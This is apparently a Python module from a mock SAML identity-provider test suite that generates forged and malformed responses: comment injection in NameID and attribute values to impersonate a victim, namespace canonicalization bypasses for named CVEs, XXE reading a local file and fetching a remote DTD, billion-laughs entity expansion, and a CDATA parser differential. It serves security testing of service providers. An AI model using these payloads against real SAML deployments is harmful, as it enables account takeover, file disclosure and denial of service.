"""Canonicalization and parser-differential payloads (docs/reference/attacks.md §3 D, §2.3).

Tree mutations where the attack lives in the tree (comments, namespaces); byte-level
serializers only where the attack *is* the serialization (DOCTYPE prefixes, entity references).
"""

from __future__ import annotations

import re
from dataclasses import replace

from lxml import etree

from mock_idp.faults.edits import assertion_of, evilize, find, first_signature
from mock_idp.faults.model import Context, Serializer
from mock_idp.protocol.response import Issuance
from mock_idp.protocol.xml import SAML, to_bytes

EMPTY_SHA256 = "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU="  # base64(SHA-256(""))
XML_NS = "http://www.w3.org/XML/1998/namespace"
EVIL_SUFFIX = ".evil.example"


def attacker_account(issuance: Issuance, _ctx: Context) -> Issuance:
    """#27, IdP-signed part: the attacker's own account, named victim + a suffix they control.

    Every claim carrying the victim's value is renamed too, as Entra would for that account.
    """
    renamed = tuple(
        replace(c, values=tuple(v + EVIL_SUFFIX if v == issuance.name_id else v for v in c.values))
        for c in issuance.claims
    )
    return replace(issuance, name_id=issuance.name_id + EVIL_SUFFIX, claims=renamed)


def _split_with_comment(holder: etree._Element, victim: str) -> None:
    text = holder.text or ""
    if not text.startswith(victim):
        raise LookupError(f"{holder.tag} does not start with {victim!r}")
    holder.text = victim
    comment = etree.Comment("")
    comment.tail = text[len(victim) :]
    holder.insert(0, comment)


def comment_in_name_id(root: etree._Element, ctx: Context) -> None:
    """#27, post-sign part: `victim<!---->.evil.example`; exc-c14n drops the comment."""
    _split_with_comment(find(assertion_of(root), "saml:Subject/saml:NameID"), ctx.victim)


def comment_in_attribute_value(root: etree._Element, ctx: Context) -> None:
    """#27 for claims: the same split inside the `name` claim's AttributeValue."""
    values = assertion_of(root).xpath(
        "saml:AttributeStatement/saml:Attribute/saml:AttributeValue[starts-with(., $v)]",
        namespaces={"saml": SAML},
        v=ctx.victim + EVIL_SUFFIX,
    )
    if not values:
        raise LookupError("no AttributeValue carries the attacker's account")
    _split_with_comment(values[-1], ctx.victim)


def void_canonicalization(root: etree._Element, ctx: Context) -> etree._Element | None:
    """CVE-2025-66568 family: a relative namespace URI on the signed assertion, the digest of
    the empty string, and the evil edit. A c14n error must fail closed."""
    assertion = assertion_of(root)
    widened = etree.Element(
        assertion.tag, dict(assertion.attrib), nsmap={**assertion.nsmap, "ns": "1"}
    )
    widened.text = assertion.text
    widened.extend(list(assertion))
    assertion.addnext(widened)
    root.remove(assertion)
    find(widened, "ds:Signature/ds:SignedInfo/ds:Reference/ds:DigestValue").text = EMPTY_SHA256
    evilize(widened, ctx)
    return None


def xml_xmlns_attribute(root: etree._Element, ctx: Context) -> None:
    """#29 (CVE-2025-66567 family): `xml:xmlns` on the Signature, then the evil edit."""
    first_signature(assertion_of(root)).set(
        f"{{{XML_NS}}}xmlns", "http://www.w3.org/2000/09/xmldsig#"
    )
    evilize(assertion_of(root), ctx)


def _prefixed(doctype: str) -> Serializer:
    def serialize(xml: bytes, _ctx: Context) -> bytes:
        return doctype.encode() + xml

    return serialize


doctype_plain = _prefixed("<!DOCTYPE Response>")
doctype_comment_confusion = _prefixed("<!DOCTYPE response SYSTEM 'x\"><!--'>")


def _in_name_id(xml: bytes, ctx: Context, reference: str) -> bytes:
    """The NameID's text replaced by an entity reference (the signed value is then gone)."""
    pattern = re.compile(rb"(<NameID[^>]*>)" + re.escape(ctx.victim.encode()) + rb"(</NameID>)")
    replaced, count = pattern.subn(rb"\g<1>" + reference.encode() + rb"\g<2>", xml, count=1)
    if count != 1:
        raise LookupError("NameID not found in the serialized response")
    return replaced


def xxe_file(xml: bytes, ctx: Context) -> bytes:
    """#31: an external entity reading a local file, used in the NameID."""
    doctype = '<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    return doctype.encode() + _in_name_id(xml, ctx, "&e;")


def xxe_parameter_entity(xml: bytes, ctx: Context) -> bytes:
    """#31, SAMLRaider's "Test XXE": an external parameter entity fetched from a URL."""
    doctype = f'<!DOCTYPE foo [ <!ENTITY % xxe SYSTEM "{ctx.probe_url}xxe.dtd"> %xxe; ]>'
    return doctype.encode() + xml


def billion_laughs(xml: bytes, ctx: Context) -> bytes:
    """#32: ten levels of ten nested internal entities, the last used in the NameID."""
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    doctype = f"<!DOCTYPE r [{''.join(levels)}]>"
    return doctype.encode() + _in_name_id(xml, ctx, "&lol9;")


def external_dtd(xml: bytes, ctx: Context) -> bytes:
    """#33: a DOCTYPE naming an external DTD by URL."""
    return f'<!DOCTYPE Response SYSTEM "{ctx.probe_url}response.dtd">'.encode() + xml


def entity_defined_id(xml: bytes, _ctx: Context) -> bytes:
    """#34 (CVE-2025-23369 family): the assertion's ID written as an entity reference."""
    match = re.search(rb'<Assertion ID="([^"]+)"', xml)
    if match is None:
        raise LookupError("Assertion ID not found in the serialized response")
    value = match.group(1).decode()
    doctype = f'<!DOCTYPE Response [<!ENTITY idv "{value}">]>'
    body = xml.replace(f'<Assertion ID="{value}"'.encode(), b'<Assertion ID="&idv;"', 1)
    return doctype.encode() + body


def cdata_differential(xml: bytes, ctx: Context) -> bytes:
    """CVE-2025-25291 (ruby-saml/REXML): the evil document, then the original hidden in CDATA
    behind a DOCTYPE whose quoted literal one parser mis-reads."""
    evil_root = etree.fromstring(xml)
    evilize(evil_root, ctx)
    evil = to_bytes(evil_root)
    close = re.search(rb"</[^>]+>$", xml)
    if close is None:
        raise LookupError("no closing root tag")
    tag = close.group(0)
    return (
        b"<!DOCTYPE response SYSTEM 'x\"><!--'>"
        + evil[: -len(tag)]
        + b"<![CDATA[-->"
        + xml[: -len(tag)]
        + b"<!--]]>-->"
        + tag
    )
